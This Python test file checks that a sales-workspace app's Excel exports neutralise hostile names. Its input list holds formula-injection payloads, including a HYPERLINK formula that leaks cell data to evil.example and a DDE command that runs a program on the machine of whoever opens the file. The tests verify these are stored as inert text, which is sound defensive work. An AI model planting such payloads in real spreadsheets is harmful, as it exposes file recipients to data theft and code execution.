"""Every export is safe to open: hostile names everywhere, no formula or error cell anywhere.

The workspace is the demo with member, product, SKU, category, brand, platform and market names
replaced by formula injections, error literals and control characters; every export the app has
(team, reviewed catalog, platform performance) is written and every sheet of every file is
scanned cell by cell with openpyxl.
"""

from __future__ import annotations

import errno
import sqlite3
from datetime import date

import pytest
from openpyxl import load_workbook

from core import cli
from core.xlsx_export import ExportError, Sheet, safe_text, write_workbook

AS_OF = date(2026, 11, 1)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "Bell\x07and\x1bEsc",
    "nul\x00byte",
    "\r=1+1",
    "\t=1+1",
    "'quoted",
    "x" * 40_000,
]


def _hostile_demo(path):
    """Put the hostile texts into every name a seller can type (direct SQL, as a file could)."""
    conn = sqlite3.connect(path)
    members = [r[0] for r in conn.execute("SELECT id FROM teammember ORDER BY id")]
    for index, member_id in enumerate(members):
        text = HOSTILE[index % len(HOSTILE)]
        conn.execute(
            "UPDATE teammember SET name = ?, contact = ?, notes = ? WHERE id = ?",
            (
                f"{text}{'' if index < len(HOSTILE) else index}",
                HOSTILE[-index - 1],
                text,
                member_id,
            ),
        )
    for table, column in (
        ("product", "name"),
        ("product", "brand"),
        ("category", "name"),
        ("platform", "name"),
        ("market", "name"),
        ("market", "code"),
        ("platform", "code"),
        ("goal", "name"),
        ("goal", "notes"),
        ("sku", "sku_code"),
    ):
        ids = [r[0] for r in conn.execute(f"SELECT id FROM {table} ORDER BY id")]
        for index, row_id in enumerate(ids):
            text = HOSTILE[index % len(HOSTILE)]
            unique = text if index < len(HOSTILE) else f"{text}{index}"
            conn.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", (unique, row_id))
    conn.commit()
    conn.close()


def _scan(path):
    """(formula cells, error cells, all text) of every sheet of the workbook at ``path``."""
    book = load_workbook(path)
    formulas, errors, texts = [], [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif cell.data_type == "e":
                    errors.append((sheet.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return formulas, errors, texts


def test_every_export_of_a_hostile_workspace_has_no_formula_or_error_cell(demo_file, tmp_path):
    import shutil

    from core.inventory.platforms import (
        export_performance,
        performance_sheets,
        platform_performance,
    )
    from core.inventory.review import review_catalog
    from core.workspace import open_workspace

    path = tmp_path / "hostile.matrixdesk"
    shutil.copy(demo_file, path)
    _hostile_demo(path)
    team_xlsx, catalog_xlsx = tmp_path / "team.xlsx", tmp_path / "catalog.xlsx"
    goals_xlsx = tmp_path / "goals.xlsx"
    assert cli.main(["export", "team", str(path), str(team_xlsx)]) == 0
    assert cli.main(["export", "goals", str(path), str(goals_xlsx)]) == 0
    assert (
        cli.main(["export", "catalog", str(path), str(catalog_xlsx), "--as-of", "2026-11-01"]) == 0
    )
    ws = open_workspace(path)
    try:
        with ws.session() as session:
            review = review_catalog(session, AS_OF)
            performance = platform_performance(session, review, AS_OF)
    finally:
        ws.close()
    platforms_xlsx = export_performance(
        tmp_path / "platforms.xlsx", performance_sheets(performance)
    )

    seen: set[str] = set()
    for exported in (team_xlsx, catalog_xlsx, platforms_xlsx, goals_xlsx):
        formulas, errors, texts = _scan(exported)
        assert formulas == [], exported.name
        assert errors == [], exported.name
        seen.update(texts)
        assert not list(tmp_path.glob("*.part"))
    # The texts are kept (as text), control characters made visible rather than dropped.
    for text in ("=cmd|' /C calc'!A0", "#N/A", "#REF!", "Bell␇and␛Esc", "nul␀byte"):
        assert text in seen
    assert any(t.startswith('=HYPERLINK("http://evil.example') for t in seen)
    # Member names are the RACI column headers: checked there explicitly.
    raci = load_workbook(team_xlsx).worksheets[1]
    header = [c for c in raci[1]]
    assert header[1].value == HOSTILE[0] and header[1].data_type == "s"
    assert header[1].quotePrefix


def test_safe_text_keeps_what_excel_can_hold():
    assert safe_text("Café 咖啡 €") == "Café 咖啡 €"
    assert safe_text("a\tb\nc") == "a\tb\nc"
    assert safe_text("\x1b[31mred") == "␛[31mred"
    assert safe_text("\ud800x") == "\ufffdx"
    assert len(safe_text("y" * 50_000)) == 32_767


def test_numbers_dates_and_non_finite_values(tmp_path):
    out = write_workbook(
        tmp_path / "n.xlsx",
        [Sheet("=1+1", ["=A1", "#NULL!"], [[1.5, float("nan")], [date(2026, 1, 2), float("inf")]])],
    )
    book = load_workbook(out)
    sheet = book.worksheets[0]
    assert sheet.title == "=1+1"
    assert [c.data_type for c in sheet[1]] == ["s", "s"]
    assert sheet["A2"].value == 1.5 and sheet["B2"].value is None and sheet["B3"].value is None


def _raise(error_number):
    def fail(*_args, **_kwargs):
        raise OSError(error_number, "simulated")

    return fail


@pytest.mark.parametrize(
    "error_number, words",
    [
        (errno.EACCES, "open in another program"),
        (errno.EROFS, "read-only"),
        (errno.ENOSPC, "disk is full"),
    ],
)
def test_export_to_a_locked_file_or_read_only_folder_names_the_file(
    tmp_path, monkeypatch, error_number, words
):
    """Excel keeps an open file locked (Windows): the final move fails; a read-only folder
    refuses the save itself. Root ignores chmod, so the failures are simulated."""
    from xlsxwriter.workbook import Workbook

    target = tmp_path / "team.xlsx"
    sheets = [Sheet("T", ["Name"], [["Ann"]])]
    monkeypatch.setattr("pathlib.Path.replace", _raise(error_number))
    with pytest.raises(ExportError) as info:
        write_workbook(target, sheets)
    text = info.value.message.render()
    assert str(target) in text and words in text
    assert ".part" not in text and "Errno" not in text
    assert list(tmp_path.iterdir()) == []
    monkeypatch.undo()
    monkeypatch.setattr(Workbook, "_store_workbook", _raise(error_number))
    with pytest.raises(ExportError):
        write_workbook(target, sheets)
    assert list(tmp_path.iterdir()) == []


def test_cli_export_to_an_unwritable_place_is_one_plain_line(
    demo_file, tmp_path, capsys, monkeypatch
):
    from xlsxwriter.workbook import Workbook

    monkeypatch.setattr(Workbook, "_store_workbook", _raise(errno.EROFS))
    out = tmp_path / "team.xlsx"
    assert cli.main(["export", "team", str(demo_file), str(out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: Could not write") and str(out) in err
    assert "Traceback" not in err and ".part" not in err
